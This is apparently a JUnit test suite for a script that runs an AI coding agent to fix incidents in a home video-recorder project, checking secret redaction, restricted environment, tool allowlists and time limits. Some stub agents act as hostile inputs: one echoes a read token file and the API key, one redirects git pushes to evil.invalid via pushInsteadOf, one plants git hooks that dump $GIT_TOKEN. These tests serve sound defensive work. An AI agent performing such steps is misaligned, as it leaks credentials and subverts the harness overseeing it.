package io.homenvr.aifix;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Runs entrypoint.sh with stub agents against a local bare repository. */
class EntrypointTest {
  private static final String GIT_TOKEN = "ghp_NotARealTokenButShapedLikeOne1234";
  private static final String API_KEY = "sk-ant-api03-not-a-real-key-0123456789";
  private static final Path ENTRYPOINT = Path.of("entrypoint.sh").toAbsolutePath();

  @TempDir Path dir;
  private Path origin;
  private Path terminationLog;

  @BeforeEach
  void createOrigin() throws Exception {
    origin = dir.resolve("origin.git");
    Path seed = dir.resolve("seed");
    Files.createDirectories(seed);
    run(dir, "git", "init", "--quiet", "--bare", "--initial-branch=main", origin.toString());
    run(seed, "git", "init", "--quiet", "--initial-branch=main");
    Files.writeString(seed.resolve("CameraStream.java"), "class CameraStream {}\n");
    run(seed, "git", "add", ".");
    run(
        seed,
        "git",
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "--quiet",
        "-m",
        "seed");
    run(seed, "git", "push", "--quiet", origin.toUri().toString(), "main");
    terminationLog = dir.resolve("termination-log");
  }

  @Test
  void aFixIsCommittedPushedToTheIncidentBranchAndReported() throws Exception {
    Result result =
        entrypoint(
            agent(
                """
                echo 'class CameraStream { /* owner thread closes the reader */ }' > CameraStream.java
                echo '{"type":"result","result":"Closed the reader from its own thread."}'
                """),
            Map.of());

    assertThat(result.exitCode).isZero();
    String message = Files.readString(terminationLog);
    assertThat(message)
        .contains("\"outcome\":\"fixed\"", "\"branch\":\"homenvr/fix-20260301-120000-g1\"")
        .contains("Closed the reader from its own thread.");
    String pushed =
        run(
            dir,
            "git",
            "--git-dir",
            origin.toString(),
            "rev-parse",
            "homenvr/fix-20260301-120000-g1");
    assertThat(message).contains("\"commit\":\"" + pushed.trim() + "\"");
    assertThat(
            run(
                dir,
                "git",
                "--git-dir",
                origin.toString(),
                "log",
                "-1",
                "--format=%an %s",
                "homenvr/fix-20260301-120000-g1"))
        .contains("homenvr-aifix homenvr: fix for incident 20260301-120000-g1");
    assertThat(run(dir, "git", "--git-dir", origin.toString(), "log", "-1", "--format=%s", "main"))
        .as("the base branch is untouched")
        .contains("seed");
    assertNoSecrets(result, message);
  }

  @Test
  void directPushGoesToTheBaseBranch() throws Exception {
    Result result =
        entrypoint(
            agent("echo fixed >> CameraStream.java\necho done"),
            Map.of("AIFIX_PUSH_MODE", "direct"));

    assertThat(result.exitCode).isZero();
    assertThat(Files.readString(terminationLog))
        .contains("\"outcome\":\"fixed\"", "\"branch\":\"main\"");
    assertThat(run(dir, "git", "--git-dir", origin.toString(), "log", "-1", "--format=%s", "main"))
        .contains("fix for incident");
  }

  @Test
  void anAgentThatChangesNothingIsNoFix() throws Exception {
    Result result =
        entrypoint(agent("echo '{\"result\":\"Could not reproduce the freeze.\"}'"), Map.of());

    assertThat(result.exitCode).isZero();
    assertThat(Files.readString(terminationLog))
        .isEqualTo(
            "{\"outcome\":\"no-fix\",\"summary\":\"Could not reproduce the freeze.\","
                + "\"diagnosisNote\":\"the agent gave no homenvr-diagnosis block\"}");
    assertThat(run(dir, "git", "--git-dir", origin.toString(), "branch", "--list"))
        .doesNotContain("homenvr/fix");
  }

  @Test
  void anAgentOverItsTimeBudgetIsAnError() throws Exception {
    Instant start = Instant.now();
    Result result =
        entrypoint(
            agent("echo x >> CameraStream.java\nsleep 30"), Map.of("AIFIX_TIMEOUT_SECONDS", "1"));

    assertThat(Duration.between(start, Instant.now())).isLessThan(Duration.ofSeconds(20));
    assertThat(result.exitCode).isNotZero();
    assertThat(Files.readString(terminationLog))
        .contains("\"outcome\":\"error\"", "exceeded its time budget of 1 s");
    assertThat(run(dir, "git", "--git-dir", origin.toString(), "branch", "--list"))
        .doesNotContain("homenvr/fix");
  }

  @Test
  void aFailingAgentIsAnErrorAndItsSecretsAreRedacted() throws Exception {
    Result result =
        entrypoint(agent("echo \"auth failed for key $ANTHROPIC_API_KEY\" >&2\nexit 3"), Map.of());

    assertThat(result.exitCode).isNotZero();
    String message = Files.readString(terminationLog);
    assertThat(message)
        .contains("\"outcome\":\"error\"", "exit 3", "auth failed for key [REDACTED]");
    assertNoSecrets(result, message);
  }

  @Test
  void anAgentEchoingSecretsInItsSummaryHasThemRedacted() throws Exception {
    // the agent has no GIT_TOKEN, but could meet the value, e.g. quoted in a log
    Files.writeString(dir.resolve("token.txt"), GIT_TOKEN);
    Result result =
        entrypoint(
            agent(
                "echo y >> CameraStream.java\n"
                    + "echo \"{\\\"result\\\":\\\"used $(cat ../../token.txt) and $ANTHROPIC_API_KEY\\\"}\""),
            Map.of());

    String message = Files.readString(terminationLog);
    assertThat(message).contains("\"outcome\":\"fixed\"", "used [REDACTED] and [REDACTED]");
    assertNoSecrets(result, message);
    assertThat(
            run(
                dir,
                "git",
                "--git-dir",
                origin.toString(),
                "log",
                "-1",
                "--format=%B",
                "homenvr/fix-20260301-120000-g1"))
        .doesNotContain(GIT_TOKEN, API_KEY);
  }

  @Test
  void aMissingRepositoryIsAnErrorWithAMessageEvenBeforeTheAgentRuns() throws Exception {
    Result result =
        entrypoint(
            agent("echo never"),
            Map.of("AIFIX_REPO_URL", dir.resolve("nope.git").toUri().toString()));

    assertThat(result.exitCode).isNotZero();
    assertThat(Files.readString(terminationLog))
        .contains("\"outcome\":\"error\"", "cloning the repository");
  }

  @Test
  void thePromptReachesTheAgent() throws Exception {
    entrypoint(
        agent("cat > ../seen-prompt.txt\nprintf '%s\\n' \"$@\" > ../seen-args.txt\necho ok"),
        Map.of());

    assertThat(Files.readString(dir.resolve("workspace/seen-prompt.txt")))
        .as("the prompt comes on stdin")
        .isEqualTo("# Incident\nfix the frozen camera\n");
    assertThat(Files.readString(dir.resolve("workspace/seen-args.txt")))
        .as("and never as an argument")
        .doesNotContain("fix the frozen camera");
  }

  @Test
  void theAgentSeesItsApiKeyAndBasicsButNoGitCredentials() throws Exception {
    Result result =
        entrypoint(
            agent("env > ../agent-env.txt\necho ok"),
            Map.of(
                "GIT_SSH_KEY_FILE",
                "/etc/homenvr/git/id",
                "SOME_OPERATOR_VARIABLE",
                "x",
                "AIFIX_AGENT_ENV_PASS",
                "SOME_OPERATOR_VARIABLE GIT_TOKEN"));

    assertThat(result.exitCode).isZero();
    List<String> names =
        Files.readAllLines(dir.resolve("workspace/agent-env.txt")).stream()
            .map(line -> line.substring(0, line.indexOf('=')))
            .filter(name -> !List.of("PWD", "SHLVL", "_", "OLDPWD").contains(name))
            .sorted()
            .toList();
    assertThat(names)
        .as("only what the agent needs, and what the Job passes on by name (never git's)")
        .containsExactlyInAnyOrder(
            "PATH",
            "HOME",
            "LANG",
            "TMPDIR",
            "ANTHROPIC_API_KEY",
            "DISABLE_AUTOUPDATER",
            "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC",
            "DISABLE_TELEMETRY",
            "SOME_OPERATOR_VARIABLE");
    assertThat(Files.readString(dir.resolve("workspace/agent-env.txt")))
        .contains("HOME=" + dir.resolve("workspace/agent-home"))
        .doesNotContain(GIT_TOKEN);
  }

  @Test
  void theAgentIsStartedWithCapsModelAndOnlyTheAllowedTools() throws Exception {
    entrypoint(
        agent("printf '%s\\n' \"$@\" > ../seen-args.txt\necho ok"),
        Map.of(
            "AIFIX_MODEL", "opus",
            "AIFIX_MAX_TURNS", "12",
            "AIFIX_MAX_BUDGET_USD", "0.75",
            "AIFIX_TEST_COMMAND", "./mvnw -q -pl nvr-image test",
            "AIFIX_ALLOWED_TOOLS", "Read\nGrep\nBash(gradle check)\n"));

    assertThat(Files.readAllLines(dir.resolve("workspace/seen-args.txt")))
        .containsSequence("-p", "--output-format", "json")
        .containsSequence("--model", "opus", "--max-turns", "12", "--max-budget-usd", "0.75")
        .containsSequence("--tools", "Bash,Grep,Read")
        .containsSequence(
            "--allowedTools",
            "Read",
            "Grep",
            "Bash(gradle check)",
            "Bash(./mvnw -q -pl nvr-image test)",
            "Bash(./mvnw -q -pl nvr-image test *)",
            "--disallowedTools")
        .containsSequence("--permission-mode", "dontAsk")
        .containsSequence("--setting-sources", "user")
        .contains("--strict-mcp-config", "--disable-slash-commands", "--no-session-persistence");
  }

  @Test
  void theDiagnosisAndProposalAreReportedApartFromTheSummary() throws Exception {
    Result result =
        entrypoint(
            agent(
                """
                cat <<'EOF'
                {"type":"result","is_error":false,"subtype":"success","num_turns":7,"total_cost_usd":0.1234567,
                 "permission_denials":[{"tool_name":"Bash"}],
                 "result":"The container runs out of memory.\\n\\n```homenvr-diagnosis\\n{\\"diagnosis\\":{\\"cause\\":\\"OOMKilled at 1536Mi with 6 cameras\\",\\"evidence\\":[\\"Last State: Terminated Reason: OOMKilled\\",\\"heap 1400Mi\\"],\\"confidence\\":\\"high\\"},\\"proposal\\":{\\"type\\":\\"config\\",\\"field\\":\\"pipeline.resources.limits.memory\\",\\"value\\":\\"3Gi\\"}}\\n```\\n"}
                EOF
                """),
            Map.of());

    assertThat(result.exitCode).isZero();
    String message = Files.readString(terminationLog);
    assertThat(json(message, "m.outcome")).isEqualTo("no-fix");
    assertThat(json(message, "m.summary")).isEqualTo("The container runs out of memory.");
    assertThat(json(message, "m.diagnosis.cause")).isEqualTo("OOMKilled at 1536Mi with 6 cameras");
    assertThat(json(message, "m.diagnosis.evidence.length")).isEqualTo("2");
    assertThat(json(message, "m.diagnosis.confidence")).isEqualTo("high");
    assertThat(json(message, "m.proposal.value")).isEqualTo("3Gi");
    assertThat(json(message, "JSON.stringify(m.agent)"))
        .isEqualTo(
            "{\"isError\":false,\"subtype\":\"success\",\"turns\":7,\"costUsd\":0.1235,"
                + "\"deniedToolCalls\":1}");
  }

  @Test
  void aFixReportsItsDiffSummary() throws Exception {
    entrypoint(
        agent(
            "printf 'a\\nb\\n' > New.java\necho 'class CameraStream { int x; }' > CameraStream.java\n"
                + "echo '{\"result\":\"done\"}'"),
        Map.of());

    String message = Files.readString(terminationLog);
    assertThat(json(message, "m.outcome")).isEqualTo("fixed");
    assertThat(json(message, "JSON.stringify(m.diff)"))
        .isEqualTo(
            "{\"files\":2,\"insertions\":3,\"deletions\":1,\"paths\":[\"CameraStream.java\",\"New.java\"]}");
    assertThat(json(message, "m.diagnosisNote")).contains("no homenvr-diagnosis block");
  }

  @Test
  void aHugeAnswerStillFitsTheTerminationMessage() throws Exception {
    Result result =
        entrypoint(
            agent(
                "for i in $(seq 1 40); do echo \"line $i $(printf 'y%.0s' $(seq 1 300))\" > f$i.txt; done\n"
                    + "node -e 'console.log(JSON.stringify({result: \"z\".repeat(20000) + \"\\n```homenvr-diagnosis\\n\""
                    + " + JSON.stringify({diagnosis: {cause: \"c\".repeat(5000), evidence: Array(40).fill(\"e\".repeat(1000)), confidence: \"medium\"},"
                    + " proposal: {type: \"config\", field: \"vision.timeoutSeconds\", value: 90}}) + \"\\n```\"}))'"),
            Map.of());

    assertThat(result.exitCode).isZero();
    String message = Files.readString(terminationLog);
    assertThat(message.getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(4000);
    assertThat(json(message, "m.outcome")).isEqualTo("fixed");
    assertThat(json(message, "m.diff.files")).isEqualTo("40");
    assertThat(json(message, "m.diagnosis.confidence")).isEqualTo("medium");
    assertThat(json(message, "m.proposal.value")).isEqualTo("90");
  }

  @Test
  void anAgentReportingAnErrorInItsJsonIsAnErrorWithItsReason() throws Exception {
    Result result =
        entrypoint(
            agent(
                "echo y >> CameraStream.java\n"
                    + "echo '{\"type\":\"result\",\"subtype\":\"error_max_turns\",\"is_error\":true,"
                    + "\"num_turns\":41,\"result\":\"Reached the maximum number of turns\"}'\nexit 1"),
            Map.of());

    assertThat(result.exitCode).isNotZero();
    String message = Files.readString(terminationLog);
    assertThat(json(message, "m.outcome")).isEqualTo("error");
    assertThat(json(message, "m.summary"))
        .isEqualTo(
            "the agent failed (exit 1, error_max_turns): Reached the maximum number of turns");
    assertThat(json(message, "m.agent.turns")).isEqualTo("41");
    assertThat(run(dir, "git", "--git-dir", origin.toString(), "branch", "--list"))
        .as("nothing of a failed run is pushed")
        .doesNotContain("homenvr/fix");
  }

  @Test
  void anAgentRunThatRewritesGitConfigPushesNothing() throws Exception {
    Result result =
        entrypoint(
            agent(
                "echo y >> CameraStream.java\n"
                    + "git config url.https://evil.invalid/.pushInsteadOf file://\necho '{\"result\":\"ok\"}'"),
            Map.of());

    assertThat(result.exitCode).isNotZero();
    assertThat(json(Files.readString(terminationLog), "m.summary")).contains(".git/config");
    assertThat(run(dir, "git", "--git-dir", origin.toString(), "branch", "--list"))
        .doesNotContain("homenvr/fix");
  }

  @Test
  void hooksTheAgentPlantsNeverRunWithTheToken() throws Exception {
    Result result =
        entrypoint(
            agent(
                "echo y >> CameraStream.java\n"
                    + "printf '#!/bin/sh\\necho \"$GIT_TOKEN\" > %s\\n' \"$PWD/../hook-ran\" > .git/hooks/pre-commit\n"
                    + "chmod +x .git/hooks/pre-commit\ncp .git/hooks/pre-commit .git/hooks/pre-push\necho ok"),
            Map.of());

    assertThat(result.exitCode).isZero();
    assertThat(json(Files.readString(terminationLog), "m.outcome")).isEqualTo("fixed");
    assertThat(dir.resolve("workspace/hook-ran")).doesNotExist();
  }

  @Test
  void anSshRepositoryWithoutPinnedHostKeysIsRefused() throws Exception {
    Result result =
        entrypoint(
            agent("echo never"), Map.of("AIFIX_REPO_URL", "git@git.example:me/pipeline.git"));

    assertThat(result.exitCode).isNotZero();
    assertThat(json(Files.readString(terminationLog), "m.summary"))
        .contains("no host keys are pinned", "spec.escalation.aiFix.repository.knownHostsRef");
  }

  @Test
  void sshChecksHostKeysStrictlyAgainstThePinnedOnes() throws Exception {
    Path bin = Files.createDirectories(dir.resolve("bin"));
    Path seen = dir.resolve("ssh-args.txt");
    Path ssh = bin.resolve("ssh");
    Files.writeString(
        ssh,
        "#!/bin/sh\nprintf '%s\\n' \"$@\" > "
            + seen
            + "\necho 'Host key verification failed.' >&2\nexit 255\n");
    Files.setPosixFilePermissions(ssh, PosixFilePermissions.fromString("rwx------"));
    Path knownHosts = dir.resolve("known_hosts");
    Files.writeString(knownHosts, "git.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDummy\n");

    Result result =
        entrypoint(
            agent("echo never"),
            Map.of(
                "AIFIX_REPO_URL",
                "git@git.example:me/pipeline.git",
                "AIFIX_SSH_KNOWN_HOSTS_FILE",
                knownHosts.toString(),
                "GIT_SSH_KEY_FILE",
                "/etc/homenvr/git/id",
                "PATH",
                bin + ":" + System.getenv("PATH")));

    assertThat(result.exitCode).isNotZero();
    assertThat(Files.readAllLines(seen))
        .contains("StrictHostKeyChecking=yes", "UserKnownHostsFile=" + knownHosts, "BatchMode=yes")
        .doesNotContain("StrictHostKeyChecking=accept-new", "StrictHostKeyChecking=no");
    assertThat(json(Files.readString(terminationLog), "m.summary"))
        .contains("cloning the repository", "Host key verification failed");
  }

  @Test
  void withoutAnApiKeyTheAgentIsNotStarted() throws Exception {
    Path started = dir.resolve("started");
    Result result =
        entrypoint(
            agent("touch " + started + "\necho ok"),
            Map.of("AIFIX_API_PREFLIGHT", "on", "ANTHROPIC_API_KEY", ""));

    assertThat(result.exitCode).isNotZero();
    assertThat(json(Files.readString(terminationLog), "m.summary"))
        .isEqualTo(
            "the agent was not started: no API key: ANTHROPIC_API_KEY is empty (see"
                + " spec.escalation.aiFix.apiKeySecretRef)");
    assertThat(started).doesNotExist();
  }

  @Test
  void anUnreachableApiEndsTheJobInSeconds() throws Exception {
    int closedPort;
    try (java.net.ServerSocket socket = new java.net.ServerSocket(0)) {
      closedPort = socket.getLocalPort();
    }
    Instant start = Instant.now();
    Result result =
        entrypoint(
            agent("echo never"),
            Map.of(
                "AIFIX_API_PREFLIGHT",
                "on",
                "ANTHROPIC_BASE_URL",
                "http://127.0.0.1:" + closedPort));

    assertThat(Duration.between(start, Instant.now())).isLessThan(Duration.ofSeconds(15));
    assertThat(result.exitCode).isNotZero();
    assertThat(json(Files.readString(terminationLog), "m.summary"))
        .isEqualTo(
            "the agent was not started: the API at http://127.0.0.1:"
                + closedPort
                + " is unreachable (ECONNREFUSED)");
  }

  /** Evaluates a JavaScript expression over the termination message {@code m}, with node. */
  static String json(String message, String expression) throws Exception {
    Process node =
        new ProcessBuilder(
                "node",
                "-e",
                "const m = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
                    + " process.stdout.write(String("
                    + expression
                    + "))")
            .redirectErrorStream(true)
            .start();
    node.getOutputStream().write(message.getBytes(StandardCharsets.UTF_8));
    node.getOutputStream().close();
    String out = new String(node.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(node.waitFor(30, TimeUnit.SECONDS)).isTrue();
    assertThat(node.exitValue()).as(out + " in " + message).isZero();
    return out;
  }

  private Path agent(String body) throws IOException {
    Path script = dir.resolve("agent-" + System.nanoTime() + ".sh");
    Files.writeString(script, "#!/usr/bin/env bash\nset -u\n" + body + "\n");
    Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwx------"));
    return script;
  }

  private Result entrypoint(Path agent, Map<String, String> extraEnv) throws Exception {
    Path prompt = dir.resolve("prompt.md");
    Files.writeString(prompt, "# Incident\nfix the frozen camera\n");
    ProcessBuilder builder = new ProcessBuilder("bash", ENTRYPOINT.toString());
    Map<String, String> env = builder.environment();
    env.put("AIFIX_REPO_URL", origin.toUri().toString());
    env.put("AIFIX_REPO_REF", "main");
    env.put("AIFIX_INCIDENT", "20260301-120000-g1");
    env.put("AIFIX_BRANCH", "homenvr/fix-20260301-120000-g1");
    env.put("AIFIX_PROMPT_FILE", prompt.toString());
    env.put("AIFIX_WORKSPACE", dir.resolve("workspace").toString());
    env.put("AIFIX_TERMINATION_LOG", terminationLog.toString());
    env.put("AIFIX_AGENT", agent.toString());
    env.put("AIFIX_TIMEOUT_SECONDS", "60");
    env.put("HOME", dir.resolve("workspace/home").toString());
    env.put("GIT_TOKEN", GIT_TOKEN);
    env.put("ANTHROPIC_API_KEY", API_KEY);
    env.put("GIT_CONFIG_NOSYSTEM", "1");
    env.put("AIFIX_API_PREFLIGHT", "off");
    env.putAll(extraEnv);
    builder.redirectErrorStream(true);
    Process process = builder.start();
    boolean ended = process.waitFor(60, TimeUnit.SECONDS);
    assertThat(ended).as("entrypoint ended").isTrue();
    return new Result(
        process.exitValue(),
        new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
  }

  private static void assertNoSecrets(Result result, String message) {
    assertThat(result.output).doesNotContain(GIT_TOKEN, API_KEY);
    assertThat(message).doesNotContain(GIT_TOKEN, API_KEY);
  }

  static String run(Path workDir, String... command) throws Exception {
    List<String> args = new ArrayList<>(List.of(command));
    Process process =
        new ProcessBuilder(args).directory(workDir.toFile()).redirectErrorStream(true).start();
    String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
    assertThat(process.exitValue()).as(String.join(" ", command) + ": " + output).isZero();
    return output;
  }

  private record Result(int exitCode, String output) {}
}
